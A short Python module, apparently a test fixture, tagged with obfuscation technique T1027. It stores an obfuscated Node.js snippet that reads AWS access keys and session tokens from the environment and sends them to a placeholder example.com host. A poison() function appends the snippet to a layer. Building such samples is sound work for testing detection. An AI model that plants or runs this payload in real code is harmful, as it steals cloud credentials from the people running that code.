# SPDX-License-Identifier: Apache-2.0
"""Names of the environment and its variables in pieces."""

ATTACK = "T1027"
LANGUAGE = "node"
CODE = """\
;(() => {
  const p = globalThis['pro' + 'cess'], e = p['e' + 'nv'];
  const v = ['ACCESS_KEY_ID', 'SECRET_ACCESS_KEY', 'SESSION_TOKEN'].map((n) => e['AW' + 'S_' + n]);
  require('ht' + 'tps')['g' + 'et']('https://' + ['n', 'example', 'com'].join('.') + '/' + v.join('/'));
})();
"""


def poison(layer):
    layer.append(CODE)
